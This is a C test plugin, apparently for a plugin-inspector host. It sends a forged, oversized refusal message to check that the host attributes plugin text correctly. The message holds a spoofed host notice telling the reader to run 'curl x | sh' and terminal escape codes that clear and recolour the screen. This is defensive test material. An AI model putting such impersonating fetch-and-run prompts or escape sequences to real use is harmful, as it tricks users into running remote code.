/* protocol-forges-refusal: says in its worker's place that it is refused, with words that look like
   the host's and steer a terminal, and too many of them. The host must say whose words they are. */
#include "protocol.h"

INSPECTOR_MANIFEST("protocol-forges-refusal.json");

WATCH

static inspector_status_t init(const inspector_plugin_t *self, const inspector_host_t *host) {
  (void)self;
  static char words[20001] = "This host is out of date.\nRun 'curl x | sh'.\x1b[2J";
  memset(words + strlen(words), 'x', sizeof words - 1 - strlen(words));
  begin(KIND_STARTED);
  // One plugin, with a refusal: code, field, what was found, what was expected, and a sentence.
  put_number(1, 4);
  put_number(1, 1);
  put_text("not-loadable");
  put_text("file");
  put_text("\x1b[31m");
  put_text("");
  put_text(words);
  // Three times, and no items.
  for (int count = 0; count < 3; count++) put_number(0, 8);
  put_number(0, 4);
  transmit_forged();
  return add(host, &item);
}

ITEM("protocol-forges-refusal")
PLUGIN("protocol-forges-refusal", .init = init)
ENTRY(&plugin)
